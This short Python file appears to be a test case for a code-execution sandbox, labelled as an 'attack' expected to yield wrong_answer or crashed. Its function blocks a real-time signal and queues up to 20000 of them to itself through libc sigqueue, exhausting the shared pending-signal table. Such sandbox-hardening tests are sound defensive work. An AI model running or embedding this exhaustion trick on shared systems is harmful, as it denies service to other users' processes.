# attack: Blocks a real-time signal and queues thousands of it, which uses up a table that all share
# expect: wrong_answer, crashed
import ctypes
import os
import signal

libc = ctypes.CDLL(None)


def f(x):
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    for value in range(20000):
        if libc.sigqueue(os.getpid(), signal.SIGRTMIN, value) != 0:
            break
    return None
